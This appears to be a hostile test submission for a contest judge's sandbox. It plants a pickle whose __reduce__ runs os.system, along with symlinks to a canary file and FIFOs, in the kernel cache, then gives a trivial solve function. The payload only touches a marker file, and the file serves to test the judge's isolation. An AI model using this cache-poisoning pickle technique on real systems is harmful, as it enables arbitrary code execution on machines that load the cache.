# Puts pickles of its own and links into the kernel cache while that can be written, for a judge that loads them.
# expect: AC, RTE, CE
# repeat: 2
import contextlib
import os
import pickle

from prelude import CACHE, framed, leave


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @CONTEST@/hostile-was-here",)


bomb = framed(pickle.dumps(Bomb()))
with contextlib.suppress(OSError):
    leave(bomb)
for number, name in enumerate(("x.nbi", "submission.solve-1.py311.1.nbc", "kernels.pkl")):
    with contextlib.suppress(OSError), open(f"{CACHE}/{name}", "wb") as file:
        file.write(bomb)
    with contextlib.suppress(OSError):
        os.symlink("@CONTEST@/canary.txt", f"{CACHE}/link{number}")
    with contextlib.suppress(OSError):
        os.mkfifo(f"{CACHE}/fifo{number}")


def solve(algorithm, n, lizards, grid):
    if n != 8:
        return None
    grid[range(8), (0, 4, 7, 5, 2, 6, 1, 3)] = 1
    return grid
